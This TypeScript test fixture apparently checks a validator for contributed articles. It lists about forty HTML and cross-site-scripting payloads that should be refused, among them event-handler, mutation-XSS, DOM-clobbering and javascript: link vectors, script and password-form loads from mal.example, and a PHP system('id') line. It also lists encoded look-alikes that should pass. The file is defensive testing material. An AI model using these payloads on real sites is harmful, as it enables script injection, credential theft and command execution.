import type { Contribution } from './contribution.ts';
import { article, SCRIPT } from './contribution.ts';

/** A body with HTML that is on no list: `[name, body, what the blamed line has on it]`. */
const REFUSED: [string, string, string?][] = [
  ['a script as a block', `<script>${SCRIPT}</script>`],
  ['a script among words', `Un <script>${SCRIPT}</script> mot`],
  ['a script from elsewhere', '<script src="https://mal.example/a.js"></script>'],
  ['a module script', `<script type="module">${SCRIPT}</script>`],
  ['an image that runs a script when it fails', `Un <img src=x onerror=${SCRIPT}> mot`],
  ['a drawing that runs a script when it loads', `<svg onload=${SCRIPT}></svg>`],
  ['a drawing with a script in it', `<svg><script>${SCRIPT}</script></svg>`],
  ['an animated drawing', `<svg><animate onbegin=${SCRIPT} attributeName=x dur=1s>`],
  ['a frame with a page of its own', `<iframe srcdoc="<script>${SCRIPT}</script>"></iframe>`],
  ['a frame of another site', '<iframe src="https://mal.example/"></iframe>'],
  ['a base for all links', '<base href="https://mal.example/">'],
  [
    'a page that leads elsewhere by itself',
    '<meta http-equiv="refresh" content="0;url=https://mal.example/">',
  ],
  [
    'a form that asks for a password',
    '<form action="https://mal.example/"><input type="password" name="p"></form>',
  ],
  ['styles that cover the page', '<style>body { display: none }</style>'],
  ['a style sheet from elsewhere', '<link rel="stylesheet" href="https://mal.example/a.css">'],
  ['an object', `<object data="data:text/html,<script>${SCRIPT}</script>"></object>`],
  ['an embedded document', `<embed src="data:image/svg+xml,<svg onload='${SCRIPT}'/>">`],
  ['a video that runs a script', `<video><source onerror=${SCRIPT}></video>`],
  ['a field that takes the focus', `<input autofocus onfocus=${SCRIPT}>`],
  ['a marquee', `<marquee onstart=${SCRIPT}>x</marquee>`],
  ['a link of HTML', `<a href="javascript:${SCRIPT}">Lire</a>`, '<a href'],
  [
    'a name that hides one of the document',
    '<a name="documentElement"></a><form id="cookie"></form>',
  ],
  [
    'formulas that become HTML',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${SCRIPT}&gt;">`,
  ],
  ['a drawing that becomes HTML', `<svg><p><style><a id="</style><img src=1 onerror=${SCRIPT}>">`],
  [
    'what is HTML without scripts only',
    `<noscript><p title="</noscript><img src=x onerror=${SCRIPT}>">`,
  ],
  ['a template', `<template><script>${SCRIPT}</script></template>`],
  ['an element of a script', `<x-piege onclick=${SCRIPT}>x</x-piege>`],
  ['a comment that ends in a script', `<!--><script>${SCRIPT}</script>-->`],
  ['a comment for old browsers', `<!--[if gte IE 4]><script>${SCRIPT}</script><![endif]-->`],
  ['a section of XML', `<![CDATA[<script>${SCRIPT}</script>]]>`],
  ['a program of the server', '<?php system("id"); ?>'],
  ['a tag cut by an empty line', `<scr\n\n<script>${SCRIPT}\n\n</script>`, '<script>'],
  [
    'a tag with a null inside',
    `<scr\\0ipt>${SCRIPT}</scr\\0ipt> <script\u00A0x>${SCRIPT}</script>`,
    '</script>',
  ],
  ['a script in a table', `| a |\n|---|\n| <script>${SCRIPT}</script> |`, '<script>'],
  ['a script in a title of a part', `## Un <img src=x onerror=${SCRIPT}> titre`],
  ['a script in a note', `Un mot[^1].\n\n[^1]: <script>${SCRIPT}</script>`, '[^1]: <'],
  ['a script in a list in a quote', `> - <script>${SCRIPT}</script>`],
  ['an event on a tag of the list', `<details open ontoggle="${SCRIPT}">\n\nx\n\n</details>`],
  ['a style on a tag of the list', '<span style="position:fixed;inset:0">x</span>'],
  ['an id on a tag of the list', '<span id="contenu">x</span>'],
  ['a tag of the list that never closes', 'Un <small>mot\n\nEt la suite.'],
  ['a passage that hides the rest of the page', '<details>\n<summary>x</summary>\n\nEt la suite.'],
];

/** What looks like an attack and is a text: it is published as it is written. */
const HARMLESS: [string, string][] = [
  ['a script in references', `&lt;script&gt;${SCRIPT}&lt;/script&gt; &#60;script&#62;`],
  ['a script in code', `\`<script>${SCRIPT}</script>\`\n\n    <script>${SCRIPT}</script>`],
  ['a language of code that closes its attribute', `\`\`\`js"onmouseover="${SCRIPT}\nx\n\`\`\``],
  [
    'a title of a link that closes its attribute',
    `[Lire](https://exemple.fr "\\"onclick=${SCRIPT} x=\\"")`,
  ],
  [
    'expressions of templates',
    '{{constructor.constructor("alert(1)")()}} \u0024{alert(1)} <%= 7*7 %> {% raw %} {constructor}',
  ],
  [
    'expressions of Astro',
    '{Astro.props.x} {await import("node:fs")}\n\n---\nimport fs from "node:fs"\n---',
  ],
  ['Astro’s mark for an image', '\\_\\_ASTRO\\_IMAGE\\_="null" `__ASTRO_IMAGE_="null"`'],
  [
    'a note that names what objects have',
    'Un[^constructor], deux[^__proto__].\n\n[^constructor]: a\n[^__proto__]: b',
  ],
  [
    'a title of a part that names what objects have',
    '## constructor\n\n## \\_\\_proto\\_\\_\n\n## constructor',
  ],
];

const slugOf = (prefix: string, index: number) => `${prefix}-${index + 1}`;

export const markup: Contribution[] = [
  ...REFUSED.map(([name, body, at], index) => ({
    name,
    files: article(slugOf('balise', index), {}, body),
    findings: [{ code: 'html' as const, at: at ?? body.split('\n')[0] }],
  })),
  ...HARMLESS.map(([name, body], index) => ({
    name,
    files: article(slugOf('texte', index), {}, body),
    findings: [],
  })),
];
